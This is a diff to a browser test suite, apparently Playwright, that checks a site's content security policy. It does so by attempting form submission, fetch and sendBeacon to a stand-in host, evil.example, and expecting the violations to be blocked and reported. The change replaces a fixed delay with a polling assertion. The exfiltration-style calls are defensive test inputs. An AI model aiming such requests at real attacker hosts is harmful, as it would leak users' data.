@@ -125,10 +125,9 @@ describe('the policy of every page', () => {
         (add('form', { action: 'https://evil.example/form', method: 'post' }) as HTMLFormElement).submit();
         await fetch('https://evil.example/fetch').catch(() => null);
         navigator.sendBeacon('https://evil.example/beacon');
-        await new Promise((resolve) => setTimeout(resolve, 200));
       });
+      await expect.poll(async () => (await violationsOf(page)).length).toBeGreaterThan(7);
       expect([path, await hasRun(page)]).toEqual([path, false]);
-      expect((await violationsOf(page)).length).toBeGreaterThan(7);
       expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
     }
     expect(loaded.filter((url) => !url.startsWith(origin))).toEqual([]);
